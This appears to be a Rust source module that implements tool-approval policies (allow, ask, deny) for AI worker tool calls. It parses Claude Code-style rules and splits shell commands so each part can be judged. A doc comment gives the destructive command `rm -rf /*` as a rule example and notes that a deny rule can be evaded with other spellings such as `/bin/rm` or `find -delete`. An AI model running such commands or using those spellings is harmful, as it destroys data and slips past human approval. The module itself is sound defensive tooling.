//! Tool approvals: which tool calls a worker's CLI may make by itself, which a person must
//! approve, and which are refused (issue 25).
//!
//! Rules use Claude Code's permission syntax, `Tool` or `Tool(specifier)`:
//!
//! - `Bash(cargo test:*)` — the command `cargo test`, with any arguments after a space;
//!   `Bash(git push)` exactly that; `*` matches anything (`Bash(rm -rf /*)`). A command line
//!   is split at `&&`, `||`, `;`, `|`, `&` and newlines and each part is judged: the line is
//!   allowed only when every part is a plain command (no `$(…)`, backquotes, `$VAR`, `<(…)`,
//!   redirections, subshells or here-documents) that an `allow` rule matches; any part an `ask`
//!   or `deny` rule matches makes the whole line ask or be refused. Words are compared after
//!   shell quoting is taken off, so `'git' "push"` is `git push`.
//! - `Edit(src/**)`, `Read(docs/*.md)`, `Write(//tmp/**)` — the file a tool touches, relative
//!   to the task's working directory (`//` starts an absolute path); `**` spans directories,
//!   `*` and `?` stay within one. Paths are judged as written, `.` and `..` resolved: a path
//!   that climbs out of the working directory matches no relative rule. Covers `Edit`,
//!   `MultiEdit`, `Write`, `NotebookEdit`, `Read`, `Glob`, `Grep` (and `Edit(…)` covers every
//!   tool that writes, `Read(…)` every tool that reads, as in Claude Code).
//! - `WebFetch(domain:example.com)` — a fetch of that host.
//! - `Bash`, `Edit`, `mcp__github`, `mcp__github__create_issue` — every call of a tool (or
//!   of an MCP server's tools).
//!
//! `deny` wins over `ask`, `ask` over `allow`; a call no rule decides gets the policy's
//! default (`ask` unless set). A deny rule is a guard-rail, not a sandbox: a model can spell
//! a command many ways (`/bin/rm`, `find -delete`), so allow what is known to be safe and let
//! the rest ask.

use serde::{Deserialize, Serialize};
use std::path::{Component, Path, PathBuf};

/// Question numbers from here up are tool approvals (the coordinator numbers them); a
/// worker's own `ipc/NNN.question` stays far below.
pub const APPROVAL_SEQ_BASE: u32 = 1_000_000_000;

/// How a question is named to people: `question 007`, or `approval 2` for a tool approval.
pub fn question_label(seq: u32) -> String {
    if seq > APPROVAL_SEQ_BASE {
        format!("approval {}", seq - APPROVAL_SEQ_BASE)
    } else {
        format!("question {seq:03}")
    }
}

/// [`question_label`], with a budget question (kind `budget`) named `budget 3`.
pub fn label_of(seq: u32, kind: &str) -> String {
    if kind == "budget" && seq > APPROVAL_SEQ_BASE {
        format!("budget {}", seq - APPROVAL_SEQ_BASE)
    } else {
        question_label(seq)
    }
}

/// The most rules one list (allow, ask or deny) may hold.
pub const MAX_RULES: usize = 256;
/// The longest rule, in bytes.
pub const MAX_RULE_BYTES: usize = 1024;
/// The longest command line judged part by part; a longer one is never allowed by a rule.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;

/// What happens to a tool call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Decision {
    /// It runs.
    Allow,
    /// A person decides (a question in the inbox).
    Ask,
    /// It is refused; the model is told why.
    Deny,
}

impl Decision {
    pub fn as_str(self) -> &'static str {
        match self {
            Decision::Allow => "allow",
            Decision::Ask => "ask",
            Decision::Deny => "deny",
        }
    }
}

impl std::str::FromStr for Decision {
    type Err = PolicyError;
    fn from_str(s: &str) -> Result<Self, Self::Err> {
        match s {
            "allow" => Ok(Decision::Allow),
            "ask" => Ok(Decision::Ask),
            "deny" => Ok(Decision::Deny),
            _ => Err(PolicyError(format!(
                "`{s}` is not a decision; use allow, ask or deny"
            ))),
        }
    }
}

/// A policy as written (config file, `dispatch policy set`): lists of rules.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PolicySpec {
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub ask: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub deny: Vec<String>,
    /// For a call no rule decides (ask when unset).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub default: Option<Decision>,
}

/// The `policy:` section of a coordinator's config (`--config FILE`), or of the local user's
/// `config.yaml`: rules for every task, and more for tasks of a pool, a user or the token they
/// were submitted with. A task gets the rules of every scope that names it, together (a deny
/// of any scope wins); its default is the token's, else the user's, else the pool's, else the
/// section's, else `ask`.
///
/// Its first four fields repeat [`PolicySpec`]'s on purpose: serde cannot deny unknown fields
/// through `#[serde(flatten)]`, and a misspelt key in a security policy (`alow:`) must be an
/// error, not a rule quietly left out.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PolicyConfig {
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub allow: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub ask: Vec<String>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub deny: Vec<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub default: Option<Decision>,
    /// Per `key=value` of a task's `--pool` selector.
    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    pub pools: std::collections::BTreeMap<String, PolicySpec>,
    /// Per user (a token's user; `local` for the local daemon's).
    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    pub users: std::collections::BTreeMap<String, PolicySpec>,
    /// Per token, by its id (`dispatch token list`; the part after `dsp_`): the tasks
    /// submitted with that token (a CI token that may only run tests, say).
    #[serde(default, skip_serializing_if = "std::collections::BTreeMap::is_empty")]
    pub tokens: std::collections::BTreeMap<String, PolicySpec>,
}

/// Whether `id` can be a token's id (what `policy.tokens` is keyed by): 1 to 64 ASCII
/// letters and digits.
pub fn is_token_id(id: &str) -> bool {
    !id.is_empty() && id.len() <= 64 && id.bytes().all(|b| b.is_ascii_alphanumeric())
}

impl PolicyConfig {
    /// This policy and `other` together: every rule of both, scope by scope; `other`'s
    /// default where it sets one.
    pub fn merged(&self, other: &PolicyConfig) -> PolicyConfig {
        fn join(a: &PolicySpec, b: &PolicySpec) -> PolicySpec {
            PolicySpec {
                allow: a.allow.iter().chain(&b.allow).cloned().collect(),
                ask: a.ask.iter().chain(&b.ask).cloned().collect(),
                deny: a.deny.iter().chain(&b.deny).cloned().collect(),
                default: b.default.or(a.default),
            }
        }
        let scopes = |a: &std::collections::BTreeMap<String, PolicySpec>,
                      b: &std::collections::BTreeMap<String, PolicySpec>| {
            let mut out = a.clone();
            for (k, v) in b {
                let joined = join(out.get(k).unwrap_or(&PolicySpec::default()), v);
                out.insert(k.clone(), joined);
            }
            out
        };
        let base = join(&self.base(), &other.base());
        PolicyConfig {
            allow: base.allow,
            ask: base.ask,
            deny: base.deny,
            default: base.default,
            pools: scopes(&self.pools, &other.pools),
            users: scopes(&self.users, &other.users),
            tokens: scopes(&self.tokens, &other.tokens),
        }
    }

    /// As YAML ("" for an empty policy).
    pub fn to_yaml(&self) -> String {
        if self.is_empty() {
            return String::new();
        }
        serde_norway::to_string(self).unwrap_or_default()
    }

    /// Reads a policy written as the `policy:` section's content (YAML), checked whole.
    pub fn from_yaml(text: &str) -> Result<PolicyConfig, String> {
        if text.trim().is_empty() {
            return Ok(PolicyConfig::default());
        }
        let p: PolicyConfig = serde_norway::from_str(text).map_err(|e| match e.location() {
            Some(l) => format!("line {}, column {}: {e}", l.line(), l.column()),
            None => e.to_string(),
        })?;
        p.validate().map_err(|e| e.to_string())?;
        Ok(p)
    }

    /// True when the section holds nothing: tasks run without tool approvals.
    pub fn is_empty(&self) -> bool {
        *self == PolicyConfig::default()
    }

    /// Checks every rule of every scope; the error names the scope.
    pub fn validate(&self) -> Result<(), PolicyError> {
        Policy::parse(&self.base())?;
        for (k, p) in &self.pools {
            if !k.contains('=') {
                return Err(PolicyError(format!(
                    "policy.pools: `{k}` is not key=value (a pool is chosen with --pool key=value)"
                )));
            }
            Policy::parse(p).map_err(|e| PolicyError(format!("policy.pools.{k}: {e}")))?;
        }
        for (u, p) in &self.users {
            Policy::parse(p).map_err(|e| PolicyError(format!("policy.users.{u}: {e}")))?;
        }
        for (t, p) in &self.tokens {
            if !is_token_id(t) {
                return Err(PolicyError(format!(
                    "policy.tokens: `{t}` is not a token id (the part after `dsp_` that `dispatch token list` shows)"
                )));
            }
            Policy::parse(p).map_err(|e| PolicyError(format!("policy.tokens.{t}: {e}")))?;
        }
        Ok(())
    }

    fn base(&self) -> PolicySpec {
        PolicySpec {
            allow: self.allow.clone(),
            ask: self.ask.clone(),
            deny: self.deny.clone(),
            default: self.default,
        }
    }

    /// Whether any scope names a task of `owner` submitted with token `token` ("" for none)
    /// with pool selector `pool` (it then runs under tool approvals) — without parsing a rule,
    /// for the scheduler's every assignment.
    pub fn applies(
        &self,
        owner: &str,
        token: &str,
        pool: &std::collections::BTreeMap<String, String>,
    ) -> bool {
        !self.scopes(owner, token, pool).is_empty()
    }

    /// The scopes that name a task of `owner` submitted with `token`, with pool selector
    /// `pool`: section first, token last.
    fn scopes(
        &self,
        owner: &str,
        token: &str,
        pool: &std::collections::BTreeMap<String, String>,
    ) -> Vec<PolicySpec> {
        let mut scopes = Vec::new();
        let base = self.base();
        if base != PolicySpec::default() {
            scopes.push(base);
        }
        for (k, v) in pool {
            if let Some(p) = self.pools.get(&format!("{k}={v}")) {
                scopes.push(p.clone());
            }
        }
        if let Some(p) = self.users.get(owner) {
            scopes.push(p.clone());
        }
        if let Some(p) = self.tokens.get(token).filter(|_| !token.is_empty()) {
            scopes.push(p.clone());
        }
        scopes
    }

    /// The policy a task of `owner` submitted with `token` ("" for none), with pool selector
    /// `pool` (`key=value` pairs), runs under; None when no scope names it (no tool
    /// approvals). Rules that do not parse are left out (a config is validated when it is
    /// loaded).
    pub fn for_task(
        &self,
        owner: &str,
        token: &str,
        pool: &std::collections::BTreeMap<String, String>,
    ) -> Option<Policy> {
        let scopes = self.scopes(owner, token, pool);
        if scopes.is_empty() {
            return None;
        }
        let mut all = PolicySpec::default();
        for s in &scopes {
            all.allow.extend(s.allow.iter().cloned());
            all.ask.extend(s.ask.iter().cloned());
            all.deny.extend(s.deny.iter().cloned());
            all.default = s.default.or(all.default);
        }
        let keep = |rules: &[String]| -> Vec<Rule> {
            rules.iter().filter_map(|r| Rule::parse(r).ok()).collect()
        };
        Some(Policy {
            allow: keep(&all.allow),
            ask: keep(&all.ask),
            deny: keep(&all.deny),
            default: all.default.unwrap_or(Decision::Ask),
        })
    }
}

/// Reads the `policy:` section of a YAML config (absent: empty).
pub fn parse_section(text: &str) -> Result<PolicyConfig, String> {
    #[derive(Deserialize)]
    struct Doc {
        #[serde(default)]
        policy: Option<PolicyConfig>,
    }
    if text.trim().is_empty() {
        return Ok(PolicyConfig::default());
    }
    let doc: Doc = serde_norway::from_str(text).map_err(|e| match e.location() {
        Some(l) => format!("line {}, column {}: {e}", l.line(), l.column()),
        None => e.to_string(),
    })?;
    let p = doc.policy.unwrap_or_default();
    p.validate().map_err(|e| format!("policy: {e}"))?;
    Ok(p)
}

/// The rules that match exactly this call again (what "always for this task" grants): one
/// per part of a `Bash` command line that is plain (its words as they run), the file of a file
/// tool, the host of a fetch, or the tool. Empty when nothing can be granted exactly (a
/// command with a substitution, a path with `..` or wildcards).
pub fn exact_rules(tool: &str, input: &serde_json::Value) -> Vec<String> {
    let s = |k: &str| input.get(k).and_then(|v| v.as_str());
    match tool {
        "Bash" => {
            let parts = split_command(s("command").unwrap_or_default());
            if parts.iter().any(|p| !p.plain) {
                return Vec::new();
            }
            parts
                .iter()
                .map(|p| format!("Bash({})", p.words.join(" ")))
                .collect()
        }
        t if PATH_TOOLS.contains(&t) => match s("file_path")
            .or_else(|| s("notebook_path"))
            .or_else(|| s("path"))
        {
            Some(p)
                if p.starts_with('/')
                    && !p.contains(['*', '?', '(', ')'])
                    && !p.split('/').any(|c| c == "..") =>
            {
                vec![format!("{t}(/{p})")]
            }
            _ => Vec::new(),
        },
        "WebFetch" => s("url")
            .and_then(host_of)
            .map(|h| vec![format!("WebFetch(domain:{h})")])
            .unwrap_or_default(),
        t if t.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') => vec![t.to_string()],
        _ => Vec::new(),
    }
}

/// A tool call in one line for a person: `Bash: git push origin main`, `Edit: src/lib.rs`.
pub fn describe(tool: &str, input: &serde_json::Value) -> String {
    let s = |k: &str| input.get(k).and_then(|v| v.as_str());
    let what = s("command")
        .or_else(|| s("file_path"))
        .or_else(|| s("notebook_path"))
        .or_else(|| s("url"))
        .or_else(|| s("pattern"))
        .or_else(|| s("path"));
    match what {
        Some(w) => format!("{tool}: {w}"),
        None => tool.to_string(),
    }
}

/// A rule or policy that cannot be used, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub struct PolicyError(pub String);

/// One parsed rule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    text: String,
    tool: String,
    spec: Spec,
}

#[derive(Debug, Clone, PartialEq, Eq)]
enum Spec {
    /// Every call of the tool (or, for `mcp__server`, of the server's tools).
    Any,
    /// A command pattern (`*` wildcards); `prefix` for a trailing `:*`.
    Command { pattern: String, prefix: bool },
    /// A path glob, split in segments; `absolute` for a leading `//`.
    Path {
        segments: Vec<String>,
        absolute: bool,
    },
    /// A host name, lower-case.
    Domain(String),
}

const PATH_TOOLS: [&str; 7] = [
    "Edit",
    "MultiEdit",
    "Write",
    "NotebookEdit",
    "Read",
    "Glob",
    "Grep",
];

impl Rule {
    /// Parses `Tool` or `Tool(specifier)`.
    pub fn parse(text: &str) -> Result<Rule, PolicyError> {
        let bad = |why: &str| {
            PolicyError(format!(
                "rule `{}`: {why}",
                crate::text::printable_line(text)
            ))
        };
        if text.len() > MAX_RULE_BYTES {
            return Err(bad(&format!("longer than {MAX_RULE_BYTES} bytes")));
        }
        let t = text.trim();
        let (tool, spec) = match t.find('(') {
            None => (t, None),
            Some(i) => {
                let Some(inner) = t[i + 1..].strip_suffix(')') else {
                    return Err(bad("a `(` needs its `)` at the end"));
                };
                (&t[..i], Some(inner))
            }
        };
        if tool.is_empty() || !tool.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
            return Err(bad(
                "a rule starts with a tool name (`Bash`, `Edit`, `Read`, `WebFetch`, `mcp__server__tool`…)",
            ));
        }
        let spec = match spec {
            None => Spec::Any,
            Some(s) if s.trim().is_empty() => return Err(bad("empty `()`: leave them out")),
            Some(s) if tool == "Bash" => {
                let s = s.trim();
                let (pattern, prefix) = match s.strip_suffix(":*") {
                    Some(p) => (p.trim_end(), true),
                    None => (s, false),
                };
                if pattern.is_empty() {
                    return Err(bad("`:*` needs a command before it"));
                }
                Spec::Command {
                    pattern: normalize_spaces(pattern),
                    prefix,
                }
            }
            Some(s) if PATH_TOOLS.contains(&tool) => path_spec(s.trim()).map_err(|e| bad(&e))?,
            Some(s) if tool == "WebFetch" => match s.trim().strip_prefix("domain:") {
                Some(d) if !d.is_empty() && !d.contains(['/', ' ', '*']) => {
                    Spec::Domain(d.to_ascii_lowercase())
                }
                _ => return Err(bad("WebFetch takes `domain:HOST`")),
            },
            Some(_) => {
                return Err(bad(&format!(
                    "`{tool}` takes no `(…)`; a specifier is for Bash, WebFetch and the file tools ({})",
                    PATH_TOOLS.join(", ")
                )));
            }
        };
        Ok(Rule {
            text: t.to_string(),
            tool: tool.to_string(),
            spec,
        })
    }

    /// The rule as written.
    pub fn text(&self) -> &str {
        &self.text
    }

    fn names_tool(&self, tool: &str) -> bool {
        if self.tool == tool {
            return true;
        }
        // `Edit(…)` covers every tool that writes and `Read(…)` every tool that reads.
        let writes = ["Edit", "MultiEdit", "Write", "NotebookEdit"];
        let reads = ["Read", "Glob", "Grep"];
        if !matches!(self.spec, Spec::Any) {
            return (self.tool == "Edit" && writes.contains(&tool))
                || (self.tool == "Read" && reads.contains(&tool));
        }
        // `mcp__server` (and `mcp__server__*`) cover the server's tools.
        if let Some(server) = self.tool.strip_prefix("mcp__")
            && !server.contains("__")
        {
            return tool
                .strip_prefix("mcp__")
                .and_then(|t| t.strip_prefix(server))
                .is_some_and(|rest| rest.starts_with("__"));
        }
        false
    }
}

fn path_spec(s: &str) -> Result<Spec, String> {
    if s.starts_with('~') {
        return Err("`~` paths are not supported: the coordinator does not know the node's home; write `//home/USER/…`".into());
    }
    let (absolute, rest) = match s.strip_prefix("//") {
        Some(r) => (true, r),
        None => (
            false,
            s.strip_prefix("./").unwrap_or(s.trim_start_matches('/')),
        ),
    };
    let segments: Vec<String> = rest
        .split('/')
        .filter(|p| !p.is_empty() && *p != ".")
        .map(str::to_string)
        .collect();
    if segments.iter().any(|p| p == "..") {
        return Err("`..` in a path rule: write the path it means".into());
    }
    if segments.is_empty() && !absolute {
        return Err("an empty path; use `**` for every file under the working directory".into());
    }
    Ok(Spec::Path { segments, absolute })
}

fn normalize_spaces(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A parsed policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Policy {
    allow: Vec<Rule>,
    ask: Vec<Rule>,
    deny: Vec<Rule>,
    default: Decision,
}

impl Default for Policy {
    /// Every call asks.
    fn default() -> Self {
        Policy {
            allow: Vec::new(),
            ask: Vec::new(),
            deny: Vec::new(),
            default: Decision::Ask,
        }
    }
}

/// A tool call as the worker's CLI reports it.
#[derive(Debug, Clone, Copy)]
pub struct ToolCall<'a> {
    /// The tool's name (`Bash`, `Edit`, `mcp__github__create_issue`).
    pub tool: &'a str,
    /// Its input, as the CLI sends it (`{"command": …}`, `{"file_path": …}`).
    pub input: &'a serde_json::Value,
    /// The worker's working directory (absolute).
    pub cwd: &'a Path,
}

/// What a policy decided, and why (for the audit and for the person asked).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Verdict {
    pub decision: Decision,
    /// The rule that decided, as written; none for the default.
    pub rule: Option<String>,
}

impl Verdict {
    /// One line: "`Bash(git push:*)` asks", "no rule decides: ask (the default)".
    pub fn explain(&self) -> String {
        match &self.rule {
            Some(r) => format!("`{r}`: {}", self.decision.as_str()),
            None => format!("no rule decides: {} (the default)", self.decision.as_str()),
        }
    }
}

impl Policy {
    /// Parses every rule; the first that cannot be used is the error.
    pub fn parse(spec: &PolicySpec) -> Result<Policy, PolicyError> {
        let list = |rules: &[String], what: &str| -> Result<Vec<Rule>, PolicyError> {
            if rules.len() > MAX_RULES {
                return Err(PolicyError(format!(
                    "{} {what} rules; at most {MAX_RULES}",
                    rules.len()
                )));
            }
            rules.iter().map(|r| Rule::parse(r)).collect()
        };
        Ok(Policy {
            allow: list(&spec.allow, "allow")?,
            ask: list(&spec.ask, "ask")?,
            deny: list(&spec.deny, "deny")?,
            default: spec.default.unwrap_or(Decision::Ask),
        })
    }

    /// Decides a call as [`Policy::decide`] does, except that what a person allowed "always"
    /// for this task (`granted`: rules from [`exact_rules`]) no longer asks: a call that would
    /// ask is allowed when each of its parts was granted, or is allowed by the policy without
    /// an ask rule naming it. A deny rule still wins.
    pub fn decide_with(&self, call: &ToolCall<'_>, granted: &[String]) -> Verdict {
        let v = self.decide(call);
        if v.decision != Decision::Ask || granted.is_empty() {
            return v;
        }
        let always = |rule: String| Verdict {
            decision: Decision::Allow,
            rule: Some(format!("{rule}, allowed always for this task")),
        };
        match Target::of(call) {
            Target::Command(parts) => {
                if parts.is_empty() || parts.iter().any(|p| !p.plain) {
                    return v;
                }
                let mut used = Vec::new();
                for p in &parts {
                    let exact = format!("Bash({})", p.words.join(" "));
                    if granted.contains(&exact) {
                        used.push(exact);
                        continue;
                    }
                    let line = p.words.join(" ");
                    let named = |rules: &[Rule]| {
                        rules.iter().any(|r| {
                            r.names_tool("Bash")
                                && match &r.spec {
                                    Spec::Any => true,
                                    Spec::Command { pattern, prefix } => {
                                        command_matches(pattern, *prefix, &line)
                                    }
                                    _ => false,
                                }
                        })
                    };
                    if named(&self.ask) || !named(&self.allow) {
                        return v;
                    }
                }
                if used.is_empty() {
                    return v;
                }
                always(used.join("`, `"))
            }
            _ => {
                let exact = exact_rules(call.tool, call.input);
                if !exact.is_empty() && exact.iter().all(|r| granted.contains(r)) {
                    always(exact.join("`, `"))
                } else {
                    v
                }
            }
        }
    }

    /// Decides a call: deny over ask over allow, else the default.
    pub fn decide(&self, call: &ToolCall<'_>) -> Verdict {
        let target = Target::of(call);
        let first = |rules: &[Rule], all: bool| {
            rules
                .iter()
                .find(|r| r.names_tool(call.tool) && target.matches(r, all))
                .map(|r| r.text.clone())
        };
        for (rules, decision, all) in [
            (&self.deny, Decision::Deny, false),
            (&self.ask, Decision::Ask, false),
        ] {
            if let Some(rule) = first(rules, all) {
                return Verdict {
                    decision,
                    rule: Some(rule),
                };
            }
        }
        if let Some(rule) = target.allowed_by(&self.allow, call.tool) {
            return Verdict {
                decision: Decision::Allow,
                rule: Some(rule),
            };
        }
        Verdict {
            decision: self.default,
            rule: None,
        }
    }
}

/// What a rule is matched against.
enum Target {
    /// A command line, in parts.
    Command(Vec<Part>),
    /// A path, absolute and lexically resolved; `None` when the call names none.
    Path(Option<PathBuf>, PathBuf),
    /// A URL's host.
    Host(Option<String>),
    /// Nothing a specifier can match.
    Other,
}

impl Target {
    fn of(call: &ToolCall<'_>) -> Target {
        let s = |k: &str| call.input.get(k).and_then(|v| v.as_str());
        match call.tool {
            "Bash" => Target::Command(split_command(s("command").unwrap_or(""))),
            t if PATH_TOOLS.contains(&t) => {
                let p = s("file_path")
                    .or_else(|| s("notebook_path"))
                    .or_else(|| s("path"));
                let p = match p {
                    Some(p) => Some(resolve(call.cwd, p)),
                    // Glob and Grep without a path search the working directory.
                    None if matches!(t, "Glob" | "Grep") => Some(resolve(call.cwd, ".")),
                    None => None,
                };
                Target::Path(p, call.cwd.to_path_buf())
            }
            "WebFetch" => Target::Host(s("url").and_then(host_of)),
            _ => Target::Other,
        }
    }

    /// Whether `rule` (already naming the tool) matches: any part of a command for deny and
    /// ask (`all` false).
    fn matches(&self, rule: &Rule, all: bool) -> bool {
        match (&rule.spec, self) {
            (Spec::Any, _) => true,
            (Spec::Command { pattern, prefix }, Target::Command(parts)) => {
                let m = |p: &Part| command_matches(pattern, *prefix, &p.words.join(" "));
                if all {
                    !parts.is_empty() && parts.iter().all(|p| p.plain && m(p))
                } else {
                    parts.iter().any(m)
                }
            }
            (Spec::Path { segments, absolute }, Target::Path(Some(path), cwd)) => {
                let rel = if *absolute {
                    path.strip_prefix("/").ok()
                } else {
                    path.strip_prefix(cwd).ok()
                };
                rel.is_some_and(|rel| {
                    let parts: Vec<String> = rel
                        .components()
                        .map(|c| c.as_os_str().to_string_lossy().into_owned())
                        .collect();
                    glob_segments(segments, &parts)
                })
            }
            (Spec::Domain(d), Target::Host(Some(h))) => h == d,
            _ => false,
        }
    }

    /// The allow rule that allows the call: for a command, every part must be plain and
    /// allowed (by any allow rules, one per part).
    fn allowed_by(&self, rules: &[Rule], tool: &str) -> Option<String> {
        let rules: Vec<&Rule> = rules.iter().filter(|r| r.names_tool(tool)).collect();
        if let Some(r) = rules.iter().find(|r| r.spec == Spec::Any) {
            return Some(r.text.clone());
        }
        match self {
            Target::Command(parts) => {
                if parts.is_empty() || parts.iter().any(|p| !p.plain) {
                    return None;
                }
                let mut used = Vec::new();
                for p in parts {
                    let line = p.words.join(" ");
                    let r = rules.iter().find(|r| match &r.spec {
                        Spec::Command { pattern, prefix } => {
                            command_matches(pattern, *prefix, &line)
                        }
                        _ => false,
                    })?;
                    if !used.contains(&r.text) {
                        used.push(r.text.clone());
                    }
                }
                Some(used.join("`, `"))
            }
            _ => rules
                .iter()
                .find(|r| self.matches(r, true))
                .map(|r| r.text.clone()),
        }
    }
}

/// `cwd` joined with `p`, `.` and `..` resolved lexically (never above `/`).
fn resolve(cwd: &Path, p: &str) -> PathBuf {
    let joined = cwd.join(p);
    let mut out = PathBuf::from("/");
    for c in joined.components() {
        match c {
            Component::ParentDir => {
                out.pop();
            }
            Component::Normal(n) => out.push(n),
            Component::RootDir | Component::CurDir | Component::Prefix(_) => {}
        }
    }
    out
}

fn host_of(url: &str) -> Option<String> {
    let rest = url.split_once("://")?.1;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.rsplit('@').next()?;
    let host = if let Some(v6) = host.strip_prefix('[') {
        v6.split(']').next()?
    } else {
        host.split(':').next()?
    };
    (!host.is_empty()).then(|| host.trim_end_matches('.').to_ascii_lowercase())
}

/// `*` matches any run of characters (spaces included); with `prefix`, the pattern is the
/// start of the line up to a word boundary.
fn command_matches(pattern: &str, prefix: bool, line: &str) -> bool {
    // `P:*` is `P` alone or `P` then a space and anything: `P *`.
    wildcard(pattern, line) || (prefix && wildcard(&format!("{pattern} *"), line))
}

/// Glob with `*` only (any characters, spaces included).
fn wildcard(pattern: &str, text: &str) -> bool {
    glob_chars(pattern, text, false)
}

/// `*` matches any run of characters, and with `any_one` `?` matches one. Backtracks to the
/// last `*` only: steps grow as pattern × text at worst, never exponentially.
fn glob_chars(pattern: &str, text: &str, any_one: bool) -> bool {
    let (p, t): (Vec<char>, Vec<char>) = (pattern.chars().collect(), text.chars().collect());
    let (mut pi, mut ti) = (0, 0);
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && p[pi] == '*' {
            star = Some((pi, ti));
            pi += 1;
        } else if pi < p.len() && ((any_one && p[pi] == '?') || p[pi] == t[ti]) {
            pi += 1;
            ti += 1;
        } else if let Some((sp, st)) = star {
            pi = sp + 1;
            ti = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|&c| c == '*')
}

/// Path segments against a glob's: `**` spans any number of segments.
fn glob_segments(pattern: &[String], path: &[String]) -> bool {
    match pattern.split_first() {
        None => path.is_empty(),
        Some((first, rest)) if first == "**" => {
            (0..=path.len()).any(|skip| glob_segments(rest, &path[skip..]))
        }
        Some((first, rest)) => match path.split_first() {
            Some((p, prest)) => segment_matches(first, p) && glob_segments(rest, prest),
            None => false,
        },
    }
}

/// One segment: `*` any characters (a segment holds no `/`), `?` one.
fn segment_matches(pattern: &str, name: &str) -> bool {
    glob_chars(pattern, name, true)
}

/// One simple command of a command line.
#[derive(Debug, Clone, PartialEq, Eq)]
struct Part {
    /// Its words, quoting removed.
    words: Vec<String>,
    /// No expansion, substitution, redirection, subshell or here-document: what it says is
    /// what runs.
    plain: bool,
}

/// Splits a command line at `&&`, `||`, `;`, `|`, `&` and newlines, taking shell quoting off
/// each word. Anything this does not follow makes its part not plain (never allowed by a
/// rule); an unterminated quote makes the whole line one part that is not plain.
fn split_command(line: &str) -> Vec<Part> {
    if line.len() > MAX_COMMAND_BYTES {
        return vec![Part {
            words: vec![line.chars().take(256).collect()],
            plain: false,
        }];
    }
    let mut parts = Vec::new();
    let mut words: Vec<String> = Vec::new();
    let mut word = String::new();
    let mut in_word = false;
    let mut plain = true;
    let mut chars = line.chars().peekable();
    let end_word = |words: &mut Vec<String>, word: &mut String, in_word: &mut bool| {
        if *in_word {
            words.push(std::mem::take(word));
            *in_word = false;
        }
    };
    let end_part = |parts: &mut Vec<Part>, words: &mut Vec<String>, plain: &mut bool| {
        if !words.is_empty() || !*plain {
            parts.push(Part {
                words: std::mem::take(words),
                plain: *plain,
            });
        }
        *plain = true;
    };
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' => end_word(&mut words, &mut word, &mut in_word),
            '\n' | ';' | '&' | '|' => {
                end_word(&mut words, &mut word, &mut in_word);
                // `&&`, `||` and `|&` (a pipe of stdout and stderr) end the part too.
                if (matches!(c, '&' | '|') && chars.peek() == Some(&c))
                    || (c == '|' && chars.peek() == Some(&'&'))
                {
                    chars.next();
                } else if c == '&' && chars.peek() == Some(&'>') {
                    // `&>` redirects.
                    plain = false;
                    continue;
                }
                end_part(&mut parts, &mut words, &mut plain);
            }
            '\'' => {
                in_word = true;
                let mut closed = false;
                for q in chars.by_ref() {
                    if q == '\'' {
                        closed = true;
                        break;
                    }
                    word.push(q);
                }
                if !closed {
                    return unparsed(line);
                }
            }
            '"' => {
                in_word = true;
                let mut closed = false;
                while let Some(q) = chars.next() {
                    match q {
                        '"' => {
                            closed = true;
                            break;
                        }
                        '\\' => match chars.next() {
                            Some(e @ ('"' | '\\' | '$' | '`')) => word.push(e),
                            Some('\n') => {}
                            Some(e) => {
                                word.push('\\');
                                word.push(e);
                            }
                            None => return unparsed(line),
                        },
                        '$' | '`' => {
                            plain = false;
                            word.push(q);
                        }
                        _ => word.push(q),
                    }
                }
                if !closed {
                    return unparsed(line);
                }
            }
            '\\' => match chars.next() {
                Some('\n') => {}
                Some(e) => {
                    in_word = true;
                    word.push(e);
                }
                None => return unparsed(line),
            },
            '$' | '`' | '<' | '>' | '(' | ')' | '{' | '}' => {
                plain = false;
                in_word = true;
                word.push(c);
            }
            '#' if !in_word => {
                // A comment runs to the end of the line.
                for n in chars.by_ref() {
                    if n == '\n' {
                        break;
                    }
                }
                end_word(&mut words, &mut word, &mut in_word);
                end_part(&mut parts, &mut words, &mut plain);
            }
            '*' | '?' | '[' | '~' => {
                // Globs and `~` expand: the words that run are not these.
                plain = false;
                in_word = true;
                word.push(c);
            }
            _ => {
                in_word = true;
                word.push(c);
            }
        }
    }
    end_word(&mut words, &mut word, &mut in_word);
    end_part(&mut parts, &mut words, &mut plain);
    // `VAR=x cmd` runs cmd with a changed environment (`PATH=.`): not plain.
    for p in &mut parts {
        if p.words.first().is_some_and(|w| {
            w.split_once('=').is_some_and(|(k, _)| {
                !k.is_empty() && k.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            })
        }) {
            p.plain = false;
        }
    }
    parts
}

fn unparsed(line: &str) -> Vec<Part> {
    vec![Part {
        words: line.split_whitespace().map(str::to_string).collect(),
        plain: false,
    }]
}

